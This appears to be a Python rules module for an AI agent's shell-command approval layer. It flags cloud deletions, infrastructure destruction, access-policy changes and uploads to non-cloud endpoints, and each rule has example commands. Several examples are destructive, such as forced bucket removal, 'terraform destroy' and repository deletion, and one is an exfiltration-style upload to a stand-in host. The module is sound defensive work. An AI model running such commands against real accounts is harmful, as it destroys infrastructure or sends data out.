"""Deleting, stopping and exposing cloud resources."""

from __future__ import annotations

import re

from toolcrib.approval.shell.rules.base import CommandCall, DangerClass, Rule, after_sub

DANGERS = (
    DangerClass(
        "cloud",
        "cloud resource change",
        "this cloud account",
        r"\baws\b.*\b(?:rb|rm|delete-|terminate-)|\b(?:gcloud|az)\b.*\bdelete\b",
        "aws s3 rb s3://b --force",
    ),
    DangerClass(
        "terraform",
        "infrastructure destruction",
        "this infrastructure",
        r"\b(?:terraform|tofu|terragrunt|pulumi)\b.*\bdestroy\b",
        "terraform destroy",
    ),
)

AWS_VERB = re.compile(
    r"^(?:delete|terminate|remove|purge|deregister|disable|stop|reboot|revoke|detach|"
    r"disassociate|release|reset|cancel|schedule-key-deletion|"
    r"schedule-bucket-deletion|batch-delete|force|abort|deactivate|destroy|reject|empty|"
    r"modify-db-instance|restore|failover|withdraw|leave)(?:-|$)"
)
AWS_OPENS = re.compile(
    r"^(?:put-bucket-(?:policy|acl|public-access-block)|put-object-acl|"
    r"authorize-security-group-(?:in|e)gress|attach-(?:user|role|group)-policy|put-(?:user|role|"
    r"group)-policy|create-access-key|"
    r"update-assume-role-policy|add-user-to-group|put-key-policy|modify-image-attribute|"
    r"modify-snapshot-attribute|create-login-profile|update-login-profile|add-permission|"
    r"put-bucket-lifecycle\S*|update-function-code|delete-public-access-block)$"
)
CLOUD_VERB = re.compile(
    r"^(?:[\w-]+:)?(?:delete|destroy|remove|rm|terminate|stop|reset|deallocate|purge|suspend|"
    r"disable|restart|abandon|drain|rollback|delete-\w[\w-]*|remove-\w[\w-]*|clear|undeploy|"
    r"uninstall|shutdown|reboot|detach|rotate|revoke|[\w-]+-(?:delete|destroy)|prune)$"
)
CLOUD_OPENS = re.compile(r"^(?:add-iam-policy-binding|set-iam-policy|create-for-rbac|grant|set-policy)$")


def aws_deletes(call: CommandCall) -> bool:
    words = [each.text for each in call.arguments.operands]
    if any(word.text in ("--dry-run", "--dryrun") for word in call.words):
        return False
    return len(words) > 1 and bool(AWS_VERB.match(words[1]) or AWS_OPENS.match(words[1]))


def aws_storage(call: CommandCall) -> bool:
    words = [each.text for each in call.arguments.operands]
    if any(word.text in ("--dryrun",) for word in call.words) or words[:1] != ["s3"]:
        return False
    verb = words[1] if len(words) > 1 else ""
    flags = {name for name, _ in call.arguments.options}
    return (
        verb in ("rb", "rm")
        or (verb == "sync" and "--delete" in flags)
        or (verb == "mv" and "--recursive" in flags)
        or any(
            word.text.startswith("--acl=public-") or (before.text == "--acl" and word.text.startswith("public-"))
            for before, word in zip([*call.words[:1], *call.words], call.words, strict=False)
        )
    )


PROVIDER = re.compile(
    r"https?://(?:localhost|127\.|0\.0\.0\.0|\[::1\]|host\.docker\.internal|[\w.-]+\.amazonaws\.com|\w+[:/])"
)


def uploads_elsewhere(call: CommandCall) -> bool:
    """An upload to a host that is not the cloud's, though it looks like one to a bucket."""
    address = call.arguments.value("--endpoint-url")
    words = [each.text for each in call.arguments.operands]
    uploads = words[1:2] in (["cp"], ["sync"], ["mv"], ["put-object"]) and not words[-1].startswith((".", "/"))
    return address is not None and uploads and not PROVIDER.match(address.text)


def says_delete(call: CommandCall) -> bool:
    words = [each.text for each in call.arguments.operands]
    if any(
        word.text in ("--dry-run", "--validate-only", "--help", "-h", "--what-if", "--dryrun") for word in call.words
    ):
        return False
    return any(CLOUD_VERB.match(word) or CLOUD_OPENS.match(word) for word in words[:4])


AWS_CHANGES = re.compile(
    r"(?:modify|change|update|replace|put|set|associate|attach|import|enable|register|promote|transfer|share|swap|reassign"
    r"|copy-snapshot|copy-image|create-(?:access-key|login-profile|policy|user|role|key-pair|service-specific-credential))(?:-|$)"
)
AWS_EVERYDAY = re.compile(
    r"(?:update-kubeconfig|put-metric-data|put-log-events|put-events|put-item|put-object|put-record\w*|update-item|put-object-tagging"
    r"|set-alarm-state|import-key-pair|put-object-acl_|update-table_|put-parameter|set-cookie)$"
)


def aws_changes(call: CommandCall) -> bool:
    """True for a change of what exists; reading it, and writing data into it, is everyday work."""
    words = [each.text for each in call.arguments.operands]
    if len(words) < 2 or any(word.text in ("--dry-run", "--generate-cli-skeleton") for word in call.words):
        return False
    return words[0] not in ("s3", "configure", "sso", "sts") and bool(
        AWS_CHANGES.match(words[1]) and not AWS_EVERYDAY.match(words[1])
    )


ACCESS_NOUN = re.compile(
    r"(?:[\w-]*-)?(?:iam|role|roles|policy|policies|firewall|firewall-rules?|nsg|security-groups?|access-keys?|keys|acl|ad|sp|rbac"
    r"|service-accounts?|service-principal|role-assignments?|permissions?|members?|tokens?|credentials?|secrets?|keyvault)(?:-[\w-]*)?$"
)
READS = re.compile(
    r"(?:list|describe|show|get|view|ls|search|info|status|help|check|test|validate|wait|log|logs|tail|explain|simulate|lookup"
    r"|ListAll|history|can-i|print|versions|operations|access|download|head|query|analyze|diff|preview|export)(?:-[\w-]*)?$"
)
CHANGES_ACCESS = re.compile(
    r"(?:create|add|set|put|update|attach|grant|assign|enable|activate|import|upload|restore|undelete|ch|allow|authorize|associate"
    r"|modify|reset|register|bind|edit|patch|new|generate|rotate)(?:-[\w-]*)?$"
)


def changes_access(call: CommandCall) -> bool:
    """True for a change of who may do or reach something."""
    words = [each.text for each in call.arguments.operands[:5]]
    if any(word.text in ("--dry-run", "--validate-only", "--what-if") for word in call.words):
        return False
    at = next((number for number, word in enumerate(words[:4]) if ACCESS_NOUN.match(word)), None)
    return at is not None and any(
        CHANGES_ACCESS.match(word) and not READS.match(word) for word in words[max(0, at - 1) : at + 3]
    )


def destroys_terraform(call: CommandCall) -> bool:
    texts = [word.text.lstrip("-") for word in call.words if word.text.startswith("-")]
    return "destroy" in texts or "auto-approve" in texts or any(text.startswith("replace=") for text in texts)


def changes_state(call: CommandCall) -> bool:
    words = [each.text for each in call.arguments.operands]
    return words[:1] == ["state"] and words[1:2] in (["rm"], ["push"], ["mv"], ["replace-provider"])


def deletes_object(call: CommandCall) -> bool:
    words = [word.text for word in call.words]
    return (
        any(word in ("rm", "rb", "del", "rsync", "mv") for word in words[:4])
        and not ("rsync" in words and "-d" not in words)
        and "-n" not in words
    )


def calls_api(call: CommandCall) -> bool:
    method = call.arguments.value("-X", "--method")
    return method is not None and method.text.upper() in ("DELETE", "PUT", "PATCH")


def sends_delete(call: CommandCall) -> bool:
    """A DELETE request to another machine removes something there."""
    method = call.arguments.value("-X", "--request", "--method")
    addresses = " ".join(each.text for each in call.arguments.operands)
    if "/_delete_by_query" in addresses:
        return True
    return (
        method is not None
        and method.text.upper() == "DELETE"
        and (not re.search(r"localhost|127\.0\.0\.1|\[::1\]", addresses) or ":9200" in addresses)
    )


RULES = (
    Rule(
        "aws",
        reason="deletes, stops or exposes cloud resources",
        where=aws_deletes,
        key="cloud",
        yes="aws --profile p ec2 terminate-instances --instance-ids i-1",
        no="aws ec2 describe-instances",
    ),
    Rule(
        "aws",
        reason="changes cloud resources",
        where=aws_changes,
        key="cloud",
        yes="aws ec2 modify-instance-attribute --instance-id i-1 --groups sg-1",
        no="aws eks update-kubeconfig --name x",
    ),
    Rule(
        "aws",
        reason="deletes stored objects",
        where=aws_storage,
        key="cloud",
        yes="aws s3 rm s3://b --recursive",
        no="aws s3 ls s3://b",
    ),
    Rule(
        "aws",
        "s3|s3api",
        reason="uploads to a host that is not the cloud's",
        where=uploads_elsewhere,
        key="exfiltration",
        yes="aws s3 cp a.csv s3://b --endpoint-url https://x.example",
        no="aws s3 cp a.csv s3://b --endpoint-url http://localhost:4566",
    ),
    Rule(
        "aws",
        "cloudformation|stepfunctions delete-stack|stop-execution",
        reason="deletes a stack",
        key="cloud",
        yes="aws cloudformation delete-stack --stack-name x",
        no="aws cloudformation list-stacks",
    ),
    Rule(
        "gcloud az doctl heroku flyctl fly ibmcloud oci linode-cli hcloud scw vultr-cli railway "
        "render vercel netlify firebase supabase wrangler civo exo openstack aliyun tccli "
        "databricks sf cf eb copilot sst amplify",
        reason="deletes, stops or exposes cloud resources",
        where=says_delete,
        key="cloud",
        yes="gcloud --project p compute instances delete vm1",
        no="gcloud compute instances list",
    ),
    Rule(
        "heroku flyctl fly railway",
        reason="deletes or restarts an application",
        where=lambda call: any(
            re.match(
                r"(?:apps:destroy|pg:reset|pg:\w*delete|addons:destroy|ps:(?:stop|restart|kill)|"
                r"domains:remove|destroy|maintenance:on|config:unset|releases:rollback|rollback|down$)",
                word.text,
            )
            for word in call.words
        ),
        key="cloud",
        yes="heroku apps:destroy x",
        no="heroku apps:info x",
    ),
    Rule(
        "aws gcloud az gsutil doctl ibmcloud oci hcloud scw openstack aliyun databricks",
        reason="changes who may use or reach cloud resources",
        where=changes_access,
        key="cloud",
        yes="az role assignment create --assignee x --role Owner",
        no="az role assignment list",
    ),
    Rule(
        "gh glab hub",
        "release create|upload|edit",
        reason="publishes files",
        key="cloud",
        yes="gh release create v1 dist/x.tgz",
        no="gh release view v1",
    ),
    Rule(
        "gh glab",
        "repo create|fork|sync|set-default_",
        reason="publishes the repository",
        flags="--public --push --source",
        key="exfiltration",
        yes="gh repo create x --public --source=. --push",
        no="gh repo create x --private",
    ),
    Rule(
        "gh glab",
        "secret|variable|ssh-key|gpg-key|deploy-key|auth set|add|login|setup-git|refresh",
        reason="changes keys, secrets or who is logged in",
        key="cloud",
        yes="gh secret set TOKEN -b x",
        no="gh secret list",
    ),
    Rule(
        "gsutil s3cmd mc s5cmd azcopy",
        reason="deletes stored objects",
        where=deletes_object,
        key="cloud",
        yes="gsutil -m rm -r gs://b",
        no="gsutil ls gs://b",
    ),
    Rule(
        "azcopy s3cmd",
        "remove|rm|rb|del|sync",
        reason="deletes stored objects",
        unless="--dry-run",
        key="cloud",
        yes="azcopy remove https://x/y",
        no="azcopy list https://x",
    ),
    Rule(
        "bq",
        reason="deletes data",
        where=lambda call: any(word.text in ("rm",) for word in call.words),
        key="cloud",
        yes="bq rm -r -f ds",
        no="bq ls",
    ),
    Rule(
        "gh",
        "repo|release|secret|variable|run|workflow|gist|issue|ssh-key|gpg-key|label|cache|"
        "codespace|project delete|archive|remove|disable|cancel|rename|unlock",
        reason="deletes or closes something on the server",
        key="cloud",
        yes="gh repo delete a/b --yes",
        no="gh repo view a/b",
    ),
    Rule(
        "gh",
        "repo edit",
        reason="changes who can see a repository",
        flags="--visibility",
        key="cloud",
        yes="gh repo edit --visibility public",
        no="gh repo view",
    ),
    Rule(
        "gh",
        "api",
        reason="changes something on the server",
        where=calls_api,
        key="cloud",
        yes="gh api -X DELETE repos/a/b",
        no="gh api repos/a/b",
    ),
    Rule(
        "gh",
        "pr merge",
        reason="bypasses branch protection to merge",
        flags="--admin --delete-branch -d",
        key="cloud",
        yes="gh pr merge 12 --admin",
        no="gh pr view 12",
    ),
    Rule(
        "glab",
        "repo|release|variable|mr|issue delete|remove",
        reason="deletes something on the server",
        key="cloud",
        yes="glab repo delete a/b",
        no="glab mr list",
    ),
    Rule(
        "curl wget http https xh",
        reason="asks a server to delete something",
        where=sends_delete,
        key="cloud",
        yes="curl -X DELETE https://api.example.com/users/1",
        no="curl https://api.example.com/users/1",
    ),
    Rule(
        "http https xh",
        "DELETE",
        reason="asks a server to delete something",
        key="cloud",
        yes="http DELETE api.example.com/users/1",
        no="http GET api.example.com/users/1",
    ),
    Rule(
        "terraform tofu terragrunt",
        "destroy",
        reason="destroys infrastructure",
        key="terraform",
        yes="terraform -chdir=x destroy",
        no="terraform plan",
    ),
    Rule(
        "terraform tofu terragrunt",
        "apply|plan_|refresh_",
        reason="changes infrastructure without confirmation",
        where=destroys_terraform,
        key="terraform",
        yes="terraform apply -auto-approve",
        no="terraform apply",
    ),
    Rule(
        "terraform tofu terragrunt",
        reason="changes the recorded state of the infrastructure",
        where=changes_state,
        key="terraform",
        yes="terraform state rm x",
        no="terraform state list",
    ),
    Rule(
        "terraform tofu terragrunt",
        "taint|force-unlock|import_|untaint_",
        reason="marks infrastructure for replacement",
        key="terraform",
        yes="terraform taint x.y",
        no="terraform show",
    ),
    Rule(
        "terraform tofu terragrunt",
        "workspace delete",
        reason="deletes a workspace",
        key="terraform",
        yes="terraform workspace delete x",
        no="terraform workspace list",
    ),
    Rule(
        "terragrunt",
        "run-all|run|stack|apply-all|destroy-all destroy|apply|run",
        reason="changes all infrastructure at once",
        key="terraform",
        yes="terragrunt run-all destroy",
        no="terragrunt run-all plan",
    ),
    Rule(
        "terragrunt",
        "destroy-all|apply-all",
        reason="changes all infrastructure at once",
        key="terraform",
        yes="terragrunt destroy-all",
        no="terragrunt plan-all",
    ),
    Rule(
        "pulumi",
        "destroy|cancel|refresh|down|rm",
        reason="destroys infrastructure",
        unless="--preview-only --diff",
        key="terraform",
        yes="pulumi destroy -y",
        no="pulumi preview",
    ),
    Rule(
        "pulumi",
        "up|update",
        reason="changes infrastructure without confirmation",
        flags="-y --yes -f --skip-preview",
        key="terraform",
        yes="pulumi up -y",
        no="pulumi preview",
    ),
    Rule(
        "pulumi",
        "stack|state rm|delete|unprotect|import",
        reason="deletes a stack or its recorded state",
        key="terraform",
        yes="pulumi stack rm prod",
        no="pulumi stack ls",
    ),
    Rule(
        "cdk cdktf sls serverless sam",
        "destroy|remove|delete|rollback",
        reason="destroys infrastructure",
        key="terraform",
        yes="cdk destroy --force",
        no="cdk diff",
    ),
    Rule(
        "cdk sam",
        "deploy",
        reason="changes infrastructure without confirmation",
        where=lambda call: any(
            word.text in ("--require-approval=never", "never", "--no-confirm-changeset", "--force")
            for word in call.words
        ),
        key="terraform",
        yes="cdk deploy --require-approval never",
        no="cdk diff",
    ),
    Rule(
        "ansible-playbook",
        reason="runs changes on all hosts",
        where=after_sub(
            0, lambda text: re.search(r"(?:destroy|delete|wipe|teardown|remove|decommission|reset|purge|cleanup)", text)
        ),
        unless="-C --check --list-hosts --list-tasks --syntax-check",
        key="terraform",
        yes="ansible-playbook destroy.yml",
        no="ansible-playbook site.yml --check",
    ),
    Rule(
        "crossplane",
        "beta|xpkg delete",
        reason="destroys infrastructure",
        key="terraform",
        yes="crossplane beta delete",
        no="crossplane version",
    ),
    Rule(
        "vault",
        "delete|destroy|lease|token|secrets|auth|operator|policy|kv",
        reason="deletes or revokes secrets",
        where=after_sub(
            0,
            lambda text: (
                text in ("delete", "destroy", "revoke", "disable", "seal", "step-down", "metadata_", "rekey", "rotate")
            ),
        ),
        key="cloud",
        yes="vault kv destroy -versions=1 x",
        no="vault status",
    ),
    Rule(
        "consul",
        "kv|leave|force-leave|acl|snapshot",
        reason="changes the cluster's data",
        where=after_sub(0, lambda text: text in ("delete", "leave", "force-leave", "restore")),
        key="cloud",
        yes="consul kv delete -recurse x",
        no="consul kv get x",
    ),
)
